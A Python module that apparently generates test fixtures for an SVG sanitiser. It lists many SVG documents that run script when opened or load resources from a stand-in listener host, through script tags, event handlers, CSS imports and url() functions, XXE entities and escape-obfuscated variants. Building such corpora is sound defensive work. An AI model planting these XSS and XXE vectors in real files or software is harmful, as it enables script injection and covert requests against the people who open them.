"""Drawings that try to run a script or to ask somebody for something, once they are opened.

Each way is one that SVG 2, CSS, XML or HTML knows, or knew; what they reach out for is LISTENER.
"""

from __future__ import annotations

LISTENER = "http://listener.test/"
RUN = "document.documentElement.setAttribute('data-ran','1')"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" '
    'viewBox="0 0 99 99"'
)
_HTML = 'xmlns="http://www.w3.org/1999/xhtml"'
_RECT = '<rect width="9" height="9"'
_FUNCTIONS = (
    "url({})",
    "url('{}')",
    "URL({})",
    "u\\72l({})",
    "\\75 rl({})",
    "image-set('{}' 1x)",
    "-webkit-image-set(url({}) 1x)",
    "cross-fade(url({}), url({}), 50%)",
    "image('{}')",
    "src('{}')",
    "element({})",
    "url({}#a) url({}#b)",
)
_PROPERTIES = (
    "fill",
    "stroke",
    "mask",
    "mask-image",
    "clip-path",
    "filter",
    "cursor",
    "marker-start",
    "background-image",
    "border-image-source",
    "content",
    "list-style-image",
    "shape-inside",
    "color-profile",
    "src",
    "offset-path",
)
_EVENTS = ("onload", "onfocus", "onbegin", "onerror", "onend", "onactivate", "onscroll", "onclick")


def _inside(what: str) -> str:
    return f"{SVG}>{what}{_RECT}/></svg>"


def _every() -> list[str]:
    made = [
        _inside(f"<script>{RUN}</script>"),
        _inside(f"<script type='module'>{RUN}</script>"),
        _inside(f"<script href='{LISTENER}a.js'/>"),
        _inside(f"<script x:href='{LISTENER}a.js'/>"),
        _inside(f"<script href='data:text/javascript,{RUN}'/>"),
        _inside(f"<x:script>{RUN}</x:script>"),
        _inside(f"<s:script xmlns:s='http://www.w3.org/2000/svg'>{RUN}</s:script>"),
        _inside(f"<script {_HTML}>{RUN}</script>"),
        _inside(f"<handler type='text/javascript'>{RUN}</handler>"),
        _inside(f"<foreignObject><script {_HTML}>{RUN}</script></foreignObject>"),
        _inside(f"<foreignObject><iframe {_HTML} src='{LISTENER}'/></foreignObject>"),
        _inside(
            f"<foreignObject><img {_HTML} src='{LISTENER}' onerror=\"{RUN}\"/></foreignObject>"
        ),
        _inside(f"<link {_HTML} rel='stylesheet' href='{LISTENER}a.css'/>"),
        _inside(f"<link {_HTML} rel='prefetch' href='{LISTENER}'/>"),
        _inside(f"<meta {_HTML} http-equiv='refresh' content='0;url={LISTENER}'/>"),
        _inside(f"<base {_HTML} href='{LISTENER}'/><use href='a.svg#b'/>"),
        _inside(f"<audio {_HTML} src='{LISTENER}' autoplay=''/>"),
        _inside(f"<object {_HTML} data='{LISTENER}'/><embed {_HTML} src='{LISTENER}'/>"),
        _inside(f"<image href='{LISTENER}a.png' width='9' height='9'/>"),
        _inside(f"<image x:href='{LISTENER}a.png' width='9' height='9'/>"),
        _inside(f"<image src='{LISTENER}a.png' width='9' height='9'/>"),
        _inside("<image href='//listener.test/a.png' width='9' height='9'/>"),
        _inside(f"<image href='\n{LISTENER}a.png' width='9' height='9'/>"),
        _inside(f"<image xml:base='{LISTENER}' href='a.png' width='9' height='9'/>"),
        _inside(f"<use href='{LISTENER}a.svg#b'/>"),
        _inside(f"<use x:href='{LISTENER}a.svg#b'/>"),
        _inside(f"<filter id='f'><feImage href='{LISTENER}'/></filter><g filter='url(#f)'/>"),
        _inside(f"<a href='{LISTENER}'>{_RECT}/></a>"),
        _inside(f"<a href='javascript:{RUN}'>{_RECT}/></a>"),
        _inside(f"<set attributeName='href' to='{LISTENER}' begin='0s'/>"),
        _inside(f"<animate attributeName='fill' values='url({LISTENER}#a)' begin='0s' dur='1s'/>"),
        _inside(f"<animate onbegin=\"{RUN}\" attributeName='x' dur='1s'/>"),
        _inside(f"<linearGradient id='a' href='{LISTENER}#b'/><g fill='url(#a)'/>"),
        _inside(f"<pattern id='a' x:href='{LISTENER}#b'/><g fill='url(#a)'/>"),
        _inside(f"<textPath href='{LISTENER}#b'>a</textPath><tref x:href='{LISTENER}#a'/>"),
        _inside(f"<font-face-uri x:href='{LISTENER}#f'/><mpath href='{LISTENER}#p'/>"),
        _inside(f"<style>@import '{LISTENER}a.css';</style>"),
        _inside(f"<style>@import url({LISTENER}a.css);</style>"),
        _inside(f"<style>@font-face{{font-family:a;src:url({LISTENER})}}</style><text>a</text>"),
        _inside(f"<style>@namespace '{LISTENER}';</style>"),
        _inside(f"<style>@\\69mport '{LISTENER}a.css';</style>"),
        _inside(f"<style><!--</style><style>@import '{LISTENER}';--></style>"),
        _inside(f"<style>rect{{}}@media screen{{rect{{fill:url({LISTENER}#a)}}}}</style>"),
        _inside(f"<style>rect{{--a:url({LISTENER}#a);fill:var(--a)}}</style>"),
        _inside(f"<style type='text/css' media='all'>/*{{*/rect{{mask:url({LISTENER})}}</style>"),
        _inside("<style><![CDATA[</style><script>" + RUN + "</script>]]></style>"),
        _inside(f"<title>&lt;script&gt;{RUN}&lt;/script&gt;</title>"),
        _inside(f"<desc><img src='{LISTENER}'/></desc>"),
        _inside(f"<metadata><image href='{LISTENER}a.png'/></metadata>"),
        _inside(f"<metadata><script>{RUN}</script></metadata>"),
        _inside(f"<metadata><style>@import '{LISTENER}a.css';</style></metadata>"),
        _inside(f"<metadata><g onload=\"{RUN}\" fill='url({LISTENER}#a)'/></metadata>"),
        _inside(f"<metadata><metadata><g style='mask:url({LISTENER}#a)'/></metadata></metadata>"),
        _inside(f"<e:a xmlns:e='http://editor.test/ns'><use href='{LISTENER}a.svg#b'/></e:a>"),
        _inside(f"<e:a xmlns:e='http://editor.test/ns'><script>{RUN}</script></e:a>"),
        _inside(f"{_RECT} cursor='url({LISTENER}a.png),auto'/>"),
        _inside(f"{_RECT} cursor='u\\72l({LISTENER}a.png),auto'/>"),
        _inside(f"<!-- --><!--><script>{RUN}</script>-->"),
        _inside(f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{LISTENER}'/>"),
        _inside(f"<e:image xmlns:e='http://editor.test/ns' href='{LISTENER}a.png'/>"),
        _inside(f"<g xmlns:e='http://editor.test/ns' e:onload=\"{RUN}\"/>"),
        _inside(f"<g data-onload=\"{RUN}\" data-href='{LISTENER}'/>"),
        _inside(f"<image href='data:image/svg+xml,<svg onload=&quot;{RUN}&quot;/>'/>"),
        _inside(f"<image href='data:text/html,<script>{RUN}</script>'/>"),
        f"<?xml-stylesheet href='{LISTENER}a.css'?>{_inside('')}",
        f"<?xml-stylesheet type='text/xsl' href='{LISTENER}a.xsl'?>{_inside('')}",
        f"<!DOCTYPE svg SYSTEM '{LISTENER}a.dtd'>{_inside('')}",
        f"<!DOCTYPE svg [<!ENTITY a SYSTEM '{LISTENER}'>]>{_inside('&a;')}",
        f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>{_inside("")}',
        f"{SVG} xml:base='{LISTENER}'><use href='a.svg#b'/></svg>",
        f"{SVG} baseProfile='tiny' contentScriptType='text/vbscript'>{_RECT}/></svg>",
    ]
    made += [f'{SVG} {event}="{RUN}">{_RECT} {event}="{RUN}"/></svg>' for event in _EVENTS]
    for function in _FUNCTIONS:
        asked = function.replace("{}", f"{LISTENER}a.svg#b")
        for name in _PROPERTIES:
            made.append(_inside(f'{_RECT} style="{name}:{asked}"/>'))
        made.append(_inside(f'{_RECT} fill="{asked}" mask="{asked}"/>'))
        made.append(_inside(f"<style>rect{{fill:{asked};cursor:{asked},auto}}</style>"))
    return made


EVERY = tuple(_every())
